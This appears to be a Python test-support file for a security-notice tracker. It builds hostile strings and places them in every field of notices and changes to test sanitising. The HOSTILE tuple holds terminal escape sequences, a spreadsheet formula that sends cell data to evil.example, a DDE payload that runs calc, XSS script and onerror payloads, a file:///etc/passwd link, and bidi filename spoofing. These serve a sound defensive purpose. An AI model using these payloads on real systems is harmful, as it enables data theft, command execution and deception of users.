"""Texts that would harm a terminal, a spreadsheet or a page, in notices and changes."""

import unicodedata

from hypothesis import strategies as st

from cdetrack.errors import CdetrackError
from cdetrack.model.notice import Notice
from cdetrack.model.record import Change, Page, Record
from cdetrack.sources import read
from cdetrack.sources.normalise import record
from support.looks import DAY
from support.sample_notices import CHANGES, TODAY, notice

HOSTILE = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07title",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mC1",
    "\x9d0;owned\x9ctitle",
    "\x1bPq#0;2;0;0;0\x1b\\sixel",
    "\x1bc reset",
    "unfinished \x1b[",
    "unfinished \x1b]0;" + "x" * 5_000,
    "tab\tline\nreturn\rform\x0cfeed\x0bnel\x85ls\u2028ps\u2029",
    "back\x08\x08space bell\x07 nul\x00 del\x7f",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark",
    "lone \ud800 surrogate",
    "[red]markup[/red] [link=file:///etc/passwd]x[/link] [/]",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "  +cmd|' /C calc'!A0",
    "＝1+1",
    "\x1b[0m=1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "| pipe | --- | `code` **bold** _x_ ~~x~~ ![img](http://evil.example/x.png)",
    "<script>alert(1)</script> & <img src=x onerror=alert(1)>",
    "# heading",
    "1. list",
    "quote \" and ' and ; and ,",
)
HOSTILE_TEXT = st.text(max_size=30) | st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=3).map("".join)
_HARMFUL = {"Cc", "Cs"}
_TURNING = set("\u2028\u2029\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def harmless(text: str) -> bool:
    """Say whether a terminal acts upon nothing in it."""
    return not any(unicodedata.category(each) in _HARMFUL or each in _TURNING for each in text)


def hostile_notice(text: str) -> Notice:
    """Return a notice that has the text everywhere."""
    return notice(
        "deadbeef0001",
        text,
        "2025-10-20",
        summary=text,
        url=f"https://x.example/{text}",
        sources=(text,),
        article=text,
        number=text,
        topics=(text, "safety"),
        summary_suspect=True,
        body=f"{text}\n{text}",
    )


def hostile_change(text: str) -> Change:
    """Return a change to the text, of every field."""
    old = Record(title=f"old {text}", date=TODAY, sources=(text,))
    new = Record(title=f"new {text}", date=TODAY, sources=(text, text), body=text, url=f"https://x.example/{text}")
    return Change(
        at=CHANGES[0].at,
        id="deadbeef0001",
        source=text,
        look=1,
        before=old,
        after=new,
        kind="changed",
        fields=("title", "sources", "body", "url"),
    )


def assert_read_or_refused(content: bytes, url: str | None = None) -> None:
    """Read the page; any error but an expected one fails the test."""
    try:
        listings = read(Page(content=content, url=url))
    except CdetrackError:
        return
    assert listings
    for listing in listings:
        assert listing.notices
        for raw in listing.notices:
            kept = record(raw, base=url or listing.base, source="x", seen=DAY)
            assert kept.title == " ".join(kept.title.split())
